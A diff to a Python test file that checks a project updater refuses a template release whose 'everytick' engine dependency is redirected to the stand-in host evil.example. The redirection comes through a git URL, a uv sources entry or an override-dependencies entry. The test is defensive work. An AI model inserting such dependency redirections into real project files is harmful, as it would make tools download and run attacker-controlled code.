@@ -165,19 +165,28 @@ def test_it_says_which_engine_it_is_about_to_run(
     )
 
 
+SOURCES = '[tool.uv.sources]\neverytick = { git = "https://evil.example" }\n\n[tool.everytick]\n'
+OVERRIDE = '[tool.uv]\noverride-dependencies = ["everytick @ git+https://evil.example"]\n\n[tool.everytick]\n'
+PROJECT = "template/pyproject.toml.jinja"
+
+
 @pytest.mark.full
+@pytest.mark.parametrize(
+    ("file", "old", "new"),
+    [
+        ("includes/engine.jinja", "git+{{ address()", "git+{{ 'https://evil.example'"),
+        (PROJECT, "[tool.everytick]\n", SOURCES),
+        (PROJECT, "[tool.everytick]\n", OVERRIDE),
+    ],
+    ids=["line", "source", "override"],
+)
 def test_nothing_runs_of_an_engine_from_another_place(
-    history: TemplateHistory, project: Project, taken: list[str]
+    history: TemplateHistory, project: Project, taken: list[str], file: str, old: str, new: str
 ) -> None:
     """A release of the template whose engine comes from elsewhere: perhaps not by its owner's will."""
-    history.edit(
-        "includes/engine.jinja",
-        lambda text: text.replace("git+{{ address()", "git+{{ 'https://evil.example'"),
-    )
+    history.edit(file, lambda text: text.replace(old, new))
     history.release("2.0.0")
-    with pytest.raises(
-        UpdateError, match=r"nothing of it was run: the engine comes from git\+https://evil\.example"
-    ):
+    with pytest.raises(UpdateError, match=r"nothing of it was run: .*(comes|take `everytick`) from"):
         take.take(Updated(project.folder), None)
     assert taken == []
     assert "evil.example" in (project.folder / "pyproject.toml").read_text("utf-8")
